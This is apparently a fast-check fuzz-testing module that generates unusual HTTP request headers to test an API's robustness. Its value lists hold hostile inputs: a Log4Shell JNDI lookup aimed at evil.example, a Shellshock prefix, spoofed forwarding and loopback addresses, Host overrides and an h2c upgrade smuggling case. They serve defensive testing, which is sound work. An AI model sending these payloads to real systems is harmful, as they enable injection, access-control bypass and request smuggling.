import * as fc from 'fast-check';
import * as hostile from './hostile.js';

/** Headers that mean something to somebody between a client and a handler. */
const NAMES = [
  'X-HTTP-Method-Override',
  'X-HTTP-Method',
  'X-Method-Override',
  'X-Original-URL',
  'X-Rewrite-URL',
  'X-Original-Method',
  'X-Forwarded-For',
  'X-Forwarded-Host',
  'X-Forwarded-Proto',
  'Forwarded',
  'X-Real-IP',
  'X-Forwarded-Prefix',
  'X-Request-Id',
  'traceparent',
  'tracestate',
  'Accept',
  'Accept-Encoding',
  'Accept-Language',
  'Accept-Charset',
  'Range',
  'If-Range',
  'If-Modified-Since',
  'If-Unmodified-Since',
  'If-Match',
  'If-None-Match',
  'Idempotency-Key',
  'Origin',
  'Referer',
  'Cookie',
  'User-Agent',
  'X-User-Id',
  'X-Role',
  'Access-Control-Request-Method',
  'Last-Event-ID',
  'Content-Encoding',
  'Upgrade-Insecure-Requests',
  'Sec-Fetch-Site',
  'Prefer',
  'DNT',
  'Via',
  'Max-Forwards',
  'From',
];
const VALUES = [
  'DELETE',
  'GET',
  '/api/v1/admin/jobs',
  'https',
  'evil.example',
  '127.0.0.1',
  '::1',
  '203.0.113.7, 127.0.0.1',
  'for="[::1]";host=evil.example',
  'bytes=0-0',
  'bytes=-1',
  'bytes=0-,0-,0-',
  'gzip;q=2, br;q=-1, *;q=x',
  '*',
  '""',
  '"',
  'W/"',
  '"1", '.repeat(500),
  'null',
  'http://localhost:3000',
  'https://evil.example',
  'file://',
  '00-00000000000000000000000000000000-0000000000000000-00',
  'ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
  'application/xml;q=1',
  'text/html',
  'a=b; session=x; '.repeat(100),
  'Mon, 30 Feb 2026 99:99:99 GMT',
  'admin',
  '-1',
  'a,'.repeat(3_000),
  'gzip,'.repeat(1_500),
  ' '.repeat(3_000),
  '${jndi:ldap://evil.example/a}',
  '() { :;}; echo',
];

/** In bytes, of which 16,384 are read. */
const TOO_LARGE = 20_000;

/** What can stand in a header at all: other characters are refused by any client, and tested on the wire. */
const writable = (text) =>
  Buffer.from(text.toWellFormed(), 'utf8')
    .toString('latin1')
    // oxlint-disable-next-line no-control-regex
    .replaceAll(/[\0-\x1f\x7f]/g, '')
    .slice(0, 8_000);

const value = fc.oneof(fc.constantFrom(...VALUES), hostile.text.map(writable));

/**
 * @param {import('../operations.js').Operation} operation
 * @returns {fc.Arbitrary<[string, string][]>}
 */
export function extraHeaders({ parameters }) {
  const own = parameters.filter((parameter) => parameter.in === 'header').map(({ name }) => name);
  const header = fc.tuple(fc.constantFrom(...own, ...own, ...own, ...NAMES), value);
  return fc.oneof(
    { weight: 40, arbitrary: fc.constant([]) },
    { weight: 12, arbitrary: fc.array(header, { minLength: 1, maxLength: 3 }) },
    { weight: 1, arbitrary: fc.constantFrom(...EXTREMES) },
  );
}

const EXTREMES = [
  [['X-Large', 'x'.repeat(TOO_LARGE)]],
  Array.from({ length: 150 }, (_, index) => [`X-${index}`, 'y']),
  [['Host', 'evil.example']],
  [['Host', 'localhost:99999']],
  [['Host', '']],
  [['Expect', '100-continue']],
  [['Expect', '200-maybe']],
  [['Connection', 'close, authorization, host']],
  [
    // Node waits for the end of the headers where garbage comes behind an upgrade that was not taken up.
    ['Connection', 'close, Upgrade'],
    ['Upgrade', 'h2c'],
  ],
  [['TE', 'trailers, chunked']],
];
